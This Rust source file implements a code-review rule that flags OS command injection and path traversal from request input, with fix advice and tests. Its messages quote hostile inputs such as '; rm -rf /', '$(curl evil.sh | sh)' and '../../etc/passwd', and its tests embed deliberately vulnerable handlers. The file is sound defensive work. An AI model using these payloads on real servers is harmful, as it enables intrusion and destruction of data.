//! SEC-INJECTION (CWE-78, CWE-22): shell commands and file paths built from
//! request input ("taint-lite", [`super::taint`]).
//!
//! * Shell: Node `child_process.exec/execSync` (and `spawn`/`execFile` with
//!   `shell: true` or `sh -c`), Python `os.system/os.popen` and `subprocess.*`
//!   with `shell=True` or `sh -c`, Go `exec.Command("sh", "-c", x)` or a
//!   program name from input, Rust `Command::new("sh").arg("-c").arg(x)`.
//! * Paths: `fs.*`, `res.sendFile/download` (without `root`), `open()`,
//!   `send_file`, `FileResponse`, `os.remove`, Go `os.Open/ReadFile/...`,
//!   `http.ServeFile`, `c.File`, Rust `File::open`, `fs::read*`,
//!   `NamedFile::open`, with a path from the request that no `basename`,
//!   `secure_filename`, `filepath.Base` or containment check
//!   (`resolve` + `startsWith`) cleans.
//!
//! Request input is `critical` for shell commands and `high` for paths.

use super::findings::Draft;
use super::lang::{call, draft, enclosing_function, is_true, short, string_value, Call};
use super::language::Grammar;
use super::sec_api::Facts;
use super::syntax::{first_line, named_children, unwrap_expression, ParsedFile};
use super::taint::{origin, Origin, Resolver};
use crate::model::Severity;
use crate::server::review::syntax::NodeExt;
use tree_sitter::Node;

pub const CHECK_ID: &str = "SEC-INJECTION";

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "/bin/sh",
    "/bin/bash",
    "zsh",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
];

enum Sink {
    Shell,
    Path,
}

pub fn scan(file: &ParsedFile, facts: &mut Facts) -> Vec<Draft> {
    let consts = Resolver::new(file);
    consts.set_strict_calls(true);
    let mut out = Vec::new();
    file.for_each_of(super::lang::CALL_KINDS, |node| {
        let Some(c) = call(file, node) else { return };
        if super::lang::in_rust_test_code(file, node) {
            return;
        }
        let Some((sink, value)) = sink(file, c) else { return };
        let what = match sink {
            Sink::Shell => "shell command",
            Sink::Path => "file-system call",
        };
        if string_value(file, value).is_some() {
            return;
        }
        facts.relevant(CHECK_ID, file.path, first_line(node), format!("{what} `{}`", short(file, c.callee)));
        if origin(file, &consts, value, 0) != Origin::RequestInput {
            return;
        }
        match sink {
            Sink::Shell => out.push(draft(
                CHECK_ID,
                Severity::Critical,
                node,
                file,
                format!("Shell command built from request input (`{}`): a value like `; rm -rf /` or `$(curl evil.sh | sh)` runs any command on the server (OS command injection, CWE-78). {}", short(file, value), shell_fix(file.grammar)),
            )),
            Sink::Path => {
                if sanitized(file, value, node) {
                    return;
                }
                out.push(draft(
                    CHECK_ID,
                    Severity::High,
                    node,
                    file,
                    format!("File path built from request input (`{}`): a name like `../../etc/passwd` reaches files outside the intended folder (path traversal, CWE-22). {}", short(file, value), path_fix(file.grammar)),
                ));
            }
        }
    });
    out
}

fn shell_fix(grammar: Grammar) -> &'static str {
    match grammar {
        Grammar::Python => "Pass a list without a shell: `subprocess.run([\"convert\", path, out], check=True)` (shell=False), after checking the value against an allow-list.",
        Grammar::Go => "Run the program directly with separate arguments: `exec.Command(\"convert\", path, out)`, never through `sh -c`, and check the value against an allow-list.",
        Grammar::Rust => "Run the program directly with separate arguments: `Command::new(\"convert\").arg(path)`, never through `sh -c`, and check the value against an allow-list.",
        _ => "Use `execFile`/`spawn` with an argument array and no shell (`execFile(\"convert\", [path, out])`), after checking the value against an allow-list.",
    }
}

fn path_fix(grammar: Grammar) -> &'static str {
    match grammar {
        Grammar::Python => "Keep only the file name (`werkzeug.utils.secure_filename(name)` or `os.path.basename`), or resolve the path and check `resolved.is_relative_to(BASE_DIR)`; Flask's `send_from_directory` does this for you.",
        Grammar::Go => "Keep only the file name (`filepath.Base(name)`), or clean the joined path and check it still starts with the base folder (`strings.HasPrefix(filepath.Clean(p), base)`); Go 1.24's `os.Root` confines access.",
        Grammar::Rust => "Keep only the file name (`Path::new(&name).file_name()`), or canonicalize the joined path and check `starts_with(base)`.",
        _ => "Keep only the file name (`path.basename(name)`), or resolve the path and check it stays under the base folder (`path.resolve(base, name).startsWith(base + path.sep)`); `res.sendFile(name, { root: dir })` does this for you.",
    }
}

/// The dangerous argument of a shell or file-system call, if this is one.
fn sink<'t>(file: &ParsedFile<'t>, c: &Call<'t>) -> Option<(Sink, Node<'t>)> {
    let args = c.positional();
    let object = c.object_text(file);
    let first = args.first().copied();
    match file.grammar {
        Grammar::TypeScript | Grammar::Tsx => {
            let child_process = object.is_empty()
                || matches!(object, "child_process" | "cp" | "childProcess" | "shell");
            match c.name {
                "exec" | "execSync" | "execAsync" | "execPromise"
                    if child_process && (object == "shell" || file.mentions("child_process")) =>
                {
                    Some((Sink::Shell, first?))
                }
                "spawn" | "spawnSync" | "execFile" | "execFileSync" if child_process => {
                    let shell_option = c.option(file, "shell").is_some_and(|v| is_true(file, v));
                    if shell_option {
                        return Some((Sink::Shell, first?));
                    }
                    through_sh_c(file, first?, args.get(1).copied()).map(|v| (Sink::Shell, v))
                }
                "readFile" | "readFileSync" | "createReadStream" | "writeFile"
                | "writeFileSync" | "createWriteStream" | "unlink" | "unlinkSync" | "rm"
                | "rmSync" | "appendFile" | "appendFileSync" | "readdir" | "readdirSync"
                | "open" | "openSync" | "copyFile" | "rename"
                    if object.contains("fs")
                        || object.ends_with("promises")
                        || (object.is_empty()
                            && (file.text.contains("\"fs")
                                || file.mentions("'fs")
                                || file.mentions("node:fs"))) =>
                {
                    Some((Sink::Path, first?))
                }
                "sendFile" | "download"
                    if c.option(file, "root").is_none()
                        && matches!(object, "res" | "response" | "reply" | "resp") =>
                {
                    // fastify-static's reply.sendFile is confined to its root.
                    if object == "reply" {
                        return None;
                    }
                    Some((Sink::Path, first?))
                }
                _ => None,
            }
        }
        Grammar::Python => match (object, c.name) {
            ("os", "system" | "popen") => Some((Sink::Shell, first?)),
            (
                "subprocess",
                "run" | "call" | "check_call" | "check_output" | "Popen" | "getoutput"
                | "getstatusoutput",
            ) => {
                if c.option(file, "shell")
                    .is_some_and(|v| file.text_of(v) == "True")
                    || matches!(c.name, "getoutput" | "getstatusoutput")
                {
                    return Some((Sink::Shell, first?));
                }
                let list = unwrap_expression(first?);
                if list.kind_name() == "list" {
                    let items = named_children(list);
                    return through_sh_c(file, items.first().copied()?, Some(list))
                        .map(|v| (Sink::Shell, v));
                }
                None
            }
            ("", "open" | "send_file" | "FileResponse")
            | ("os", "remove" | "unlink" | "rmdir" | "listdir")
            | ("shutil", "rmtree" | "copy" | "copyfile" | "move") => Some((Sink::Path, first?)),
            _ => None,
        },
        Grammar::Go => match (object, c.name) {
            ("exec", "Command" | "CommandContext") => {
                let args = if c.name == "CommandContext" {
                    &args[1.min(args.len())..]
                } else {
                    &args[..]
                };
                let program = *args.first()?;
                match string_value(file, program) {
                    Some(p) if SHELLS.contains(&p.as_str()) => {
                        let dash_c = args
                            .iter()
                            .position(|a| string_value(file, *a).as_deref() == Some("-c"))?;
                        Some((Sink::Shell, *args.get(dash_c + 1)?))
                    }
                    Some(_) => None,
                    None => Some((Sink::Shell, program)),
                }
            }
            (
                "os",
                "Open" | "ReadFile" | "Create" | "WriteFile" | "Remove" | "RemoveAll" | "OpenFile"
                | "ReadDir",
            )
            | ("ioutil", "ReadFile" | "WriteFile") => Some((Sink::Path, first?)),
            ("http", "ServeFile") => Some((Sink::Path, *args.get(2)?)),
            (_, "File" | "SendFile" | "Attachment" | "FileAttachment" | "Download")
                if !object.is_empty() && !object.contains('.') =>
            {
                Some((Sink::Path, first?))
            }
            _ => None,
        },
        Grammar::Rust => {
            let path = object.rsplit("::").next().unwrap_or(object);
            match (path, c.name) {
                ("File", "open" | "create")
                | (
                    "fs",
                    "read" | "read_to_string" | "write" | "remove_file" | "remove_dir_all"
                    | "read_dir",
                )
                | ("NamedFile", "open" | "open_async")
                | ("ServeFile", "new") => Some((Sink::Path, first?)),
                (_, "arg") => {
                    // Command::new("sh").arg("-c").arg(x)
                    let chain = file.text_of(c.node);
                    let shell = SHELLS
                        .iter()
                        .any(|s| chain.contains(&format!("Command::new(\"{s}\")")));
                    let previous_is_dash_c =
                        c.object.and_then(|o| call(file, o)).is_some_and(|p| {
                            p.name == "arg"
                                && p.positional()
                                    .first()
                                    .and_then(|a| string_value(file, *a))
                                    .as_deref()
                                    == Some("-c")
                        });
                    (shell && previous_is_dash_c).then_some((Sink::Shell, first?))
                }
                ("Command", "new") => {
                    let program = first?;
                    string_value(file, program)
                        .is_none()
                        .then_some((Sink::Shell, program))
                }
                _ => None,
            }
        }
    }
}

/// `spawn("sh", ["-c", cmd])` / `subprocess.run(["bash", "-c", cmd])`: the command after `-c`.
fn through_sh_c<'t>(
    file: &ParsedFile<'t>,
    program: Node<'t>,
    list: Option<Node<'t>>,
) -> Option<Node<'t>> {
    let program = string_value(file, program)?;
    if !SHELLS.contains(&program.as_str()) {
        return None;
    }
    let items = named_children(unwrap_expression(list?));
    let dash_c = items
        .iter()
        .position(|a| string_value(file, *a).as_deref() == Some("-c"))?;
    items.get(dash_c + 1).copied()
}

/// Is the path cleaned: wrapped in a basename-like call, or checked against
/// the base folder in the same function?
fn sanitized(file: &ParsedFile, value: Node, call_node: Node) -> bool {
    let text = file.text_of(value);
    let cleaners = [
        "basename(",
        "secure_filename(",
        "filepath.Base(",
        "file_name()",
        "path.Base(",
    ];
    if cleaners.iter().any(|c| text.contains(c)) {
        return true;
    }
    let scope = enclosing_function(file, call_node).unwrap_or_else(|| file.tree.root_node());
    let body = file.text_of(scope);
    let contains_check = [
        "startsWith(",
        "startswith(",
        "is_relative_to(",
        "HasPrefix(",
        "starts_with(",
        "commonpath(",
    ]
    .iter()
    .any(|c| body.contains(c));
    let resolves = [
        "resolve(",
        "normalize(",
        "realpath(",
        "abspath(",
        "Clean(",
        "Abs(",
        "canonicalize(",
        "EvalSymlinks(",
    ]
    .iter()
    .any(|c| body.contains(c));
    // `name = secure_filename(...)` earlier, and `name` used in the path.
    let cleaned_variable = file
        .descendants(value)
        .filter(|n| n.kind_name() == "identifier")
        .any(|ident| {
            let name = file.text_of(ident);
            body.lines().any(|line| {
                let line = line
                    .trim_start()
                    .trim_start_matches("const ")
                    .trim_start_matches("let ")
                    .trim_start_matches("var ");
                (line.starts_with(&format!("{name} =")) || line.starts_with(&format!("{name} :=")))
                    && cleaners.iter().any(|c| line.contains(c))
            })
        });
    (contains_check && resolves) || cleaned_variable
}

#[cfg(test)]
mod tests {
    use super::super::lang::test_support::lines;
    use super::*;

    fn rule(file: &ParsedFile) -> Vec<Draft> {
        scan(file, &mut Facts::default())
    }

    #[test]
    fn js_shell_and_paths() {
        let js = "const { exec, execFile } = require('child_process');\nconst fs = require('fs');\napp.get('/convert', (req, res) => {\n  exec(`convert ${req.query.file} out.png`);\n  execFile('convert', [req.query.file, 'out.png']);\n  exec('git rev-parse HEAD');\n  fs.readFile(path.join(UPLOADS, req.params.name), cb);\n  res.sendFile(req.query.name, { root: UPLOADS });\n  fs.readFile(path.join(UPLOADS, path.basename(req.params.name)), cb);\n  res.download(req.query.path);\n  db.exec(`DELETE FROM t WHERE id = ${req.params.id}`);\n});\n";
        assert_eq!(lines("src/files.js", js, rule), vec![4, 7, 10]);
    }

    #[test]
    fn go_and_rust_shell_and_paths() {
        let go = "package x\nfunc h(c *gin.Context) {\n\thost := c.Query(\"host\")\n\texec.Command(\"sh\", \"-c\", \"ping -c 1 \"+host).Run()\n\texec.Command(\"ping\", \"-c\", \"1\", host).Run()\n\tos.ReadFile(filepath.Join(\"/srv/files\", c.Param(\"name\")))\n\tos.ReadFile(filepath.Join(\"/srv/files\", filepath.Base(c.Param(\"name\"))))\n\texec.Command(\"git\", \"status\").Run()\n}\n";
        assert_eq!(lines("main.go", go, rule), vec![4, 6]);
        let rs = "async fn h(Path(name): Path<String>, Query(q): Query<Ping>) -> String {\n    let out = Command::new(\"sh\").arg(\"-c\").arg(format!(\"ping -c 1 {}\", q.host)).output();\n    let ok = Command::new(\"ping\").arg(&q.host).output();\n    let body = std::fs::read_to_string(format!(\"/srv/files/{name}\"));\n    let safe = std::fs::read_to_string(\"/srv/files/index.html\");\n    String::new()\n}\n";
        assert_eq!(lines("src/main.rs", rs, rule), vec![2, 4]);
    }

    #[test]
    fn python_shell_and_paths() {
        let py = "@app.route('/ping')\ndef ping():\n    host = request.args['host']\n    os.system('ping -c 1 ' + host)\n    subprocess.run(['ping', '-c', '1', host])\n    subprocess.run(f'ping {host}', shell=True)\n    subprocess.run(['sh', '-c', 'ping ' + host])\n    return open(os.path.join(BASE, host)).read()\n\n@app.route('/safe')\ndef safe():\n    name = secure_filename(request.args['f'])\n    return send_file(os.path.join(BASE, name))\n";
        assert_eq!(lines("app/views.py", py, rule), vec![4, 6, 7, 8]);
    }
}
